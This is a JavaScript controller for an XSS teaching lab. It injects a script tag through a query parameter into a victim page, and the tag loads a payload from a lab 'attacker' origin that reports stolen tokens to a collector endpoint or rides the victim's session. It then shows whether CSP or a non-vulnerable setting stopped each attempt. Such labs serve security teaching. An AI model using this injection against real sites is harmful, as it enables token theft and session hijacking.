// The XSS lab. For each row: start a run (the victim page will keep alice's login that way),
// load the victim page in the frame once per payload with the injection in q, and fill the
// cells from the servers' records only: the attacker's collector (did a working token reach
// it?), the lab's action endpoint (did the genuine credential arrive?), the CSP reports.
import { $, T, fmt, status } from "./lab.js";
import { recordNavigation, wireFetch } from "./wire.js";
import { action } from "./guide.js";

const PAYLOADS = ["steal", "mint", "ride"];
const WAIT_MS = 8000; // how long a payload gets to report before the cell says "no answer"
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

function injection(attacker, run, kind) {
  return `<script src="${attacker}/static/js/attacks-payload.js" data-kind="${kind}" data-run="${run}" data-collect="${attacker}/xss/collect"></script>`;
}

function verdict(kind, state) {
  if (state.records.some((r) => r.kind === "csp")) {
    const csp = state.records.find((r) => r.kind === "csp");
    return { result: "no", text: fmt(T.csp, { directive: csp.directive }) };
  }
  if (kind === "ride") {
    const act = state.records.find((r) => r.kind === "act" && r.payload === "ride");
    if (!act) return null;
    const cookie = Object.entries(act.cookies).filter(([, v]) => v).map(([k, v]) => `${k}=${v}`).join("; ")
      || (act.authorization ? `Authorization: ${act.authorization}` : "—");
    return act.changed
      ? { result: "yes", text: fmt(T.ridden, { via: act.via, cookie }) }
      : { result: "no", text: fmt(T.not_ridden, { via: act.via }) };
  }
  const entry = state.loot.find((l) => l.kind === kind);
  if (!entry) return null;
  const good = entry.items.find((i) => i.verified);
  return good
    ? { result: "yes", text: fmt(T.yes_token, { type: good.verified, name: good.name }) }
    : { result: "no", text: T.no_token };
}

// Tokens an earlier row left in this origin's storage would be "stolen" in the next row's name.
function forgetEarlierRows() {
  for (const st of [localStorage, sessionStorage]) {
    for (const k of Object.keys(st)) if (k.startsWith("xss.")) st.removeItem(k);
  }
}

async function runRow(store) {
  const row = $(`row-${store}`);
  forgetEarlierRows();
  const { res, data } = await wireFetch("/api/attacks/xss/runs", {
    method: "POST", json: { store, csp: $("csp").checked, vulnerable: $("vulnerable").checked },
  });
  if (!res.ok) return status("xss-status", `${res.status} ${data?.message ?? ""}`, "error");
  row.dataset.run = data.run;
  $("collector").href = $("collector").textContent = `${data.attacker.cross}/xss?run=${data.run}`;
  $("collector-line").hidden = false;
  for (const cell of row.querySelectorAll("[data-cell]")) { cell.dataset.result = "pending"; cell.textContent = ""; }
  for (const kind of PAYLOADS) {
    const cell = row.querySelector(`[data-cell="${kind}"]`);
    cell.textContent = fmt(T.running, { kind });
    const code = injection(data.attacker.cross, data.run, kind);
    $("injection").textContent = code;
    const q = new URLSearchParams({ run: data.run, q: code });
    $("victim-frame").src = `/attacks/xss/victim?${q}`;
    let found = null;
    for (let waited = 0; waited < WAIT_MS && !found; waited += 500) {
      await sleep(500);
      const res = await fetch(`/api/attacks/xss/runs/${data.run}`, { headers: { Accept: "application/json" } });
      if (res.ok) found = verdict(kind, await res.json());
    }
    if (found) await wireFetch(`/api/attacks/xss/runs/${data.run}`); // the record, in the wire panel
    cell.dataset.result = found ? found.result : "no";
    cell.textContent = found ? found.text : T.silent;
  }
  // Every payload had its time: the server now judges the row's step from what arrived (a
  // payload that never answered counts as "no", if the victim page was served at all).
  await wireFetch(`/api/attacks/xss/runs/${data.run}?final=1`);
  status("xss-status", fmt(T.done, { store }));
  return row;
}

let busy = false;
async function guarded(fn) {
  if (busy) throw new Error(T.busy);
  busy = true;
  for (const b of document.querySelectorAll("button")) b.disabled = true;
  try { await fn(); } finally {
    busy = false;
    for (const b of document.querySelectorAll("button")) b.disabled = false;
  }
}

const quiet = (promise) => promise.catch(() => {}); // a click while a row runs does nothing
for (const b of document.querySelectorAll("[data-row]")) b.addEventListener("click", () => quiet(guarded(() => runRow(b.dataset.row))));
$("run-all").addEventListener("click", () => quiet(guarded(async () => {
  for (const b of document.querySelectorAll("[data-row]")) await runRow(b.dataset.row);
})));

// "Show me" of a guided step: the step's switches, its row, and the row's three answers
// copied under the step (the step's green or red is the server's verdict, painted by guide.js).
const SETUPS = JSON.parse($("xss-setups").textContent);
for (const [id, setup] of Object.entries(SETUPS)) {
  action("xss", id, () => guarded(async () => {
    $("csp").checked = setup.csp;
    $("vulnerable").checked = setup.vulnerable;
    const row = await runRow(setup.store);
    if (!row) return;
    const list = document.querySelector(`[data-xss-result="${id}"]`);
    list.replaceChildren(...PAYLOADS.map((kind) => {
      const cell = row.querySelector(`[data-cell="${kind}"]`);
      const li = document.createElement("li");
      li.dataset.result = cell.dataset.result;
      li.textContent = `${T.cells[kind]}: ${cell.textContent}`;
      return li;
    }));
  }));
}

document.addEventListener("guide:reset", (event) => {
  if (event.detail.lab !== "xss") return;
  // The server forgot the runs and what reached the attacker: clear what this page shows of them.
  forgetEarlierRows();
  for (const cell of document.querySelectorAll("[data-cell]")) { cell.dataset.result = ""; cell.textContent = ""; }
  for (const list of document.querySelectorAll("[data-xss-result]")) list.replaceChildren();
  $("collector-line").hidden = true;
  $("victim-frame").removeAttribute("src");
  $("injection").textContent = "";
});
for (const el of document.querySelectorAll("[data-store-desc]")) el.textContent = T.store[el.dataset.storeDesc];
if (location.hostname !== "localhost") { $("where-bad").hidden = false; $("where-ok").hidden = true; }
recordNavigation();
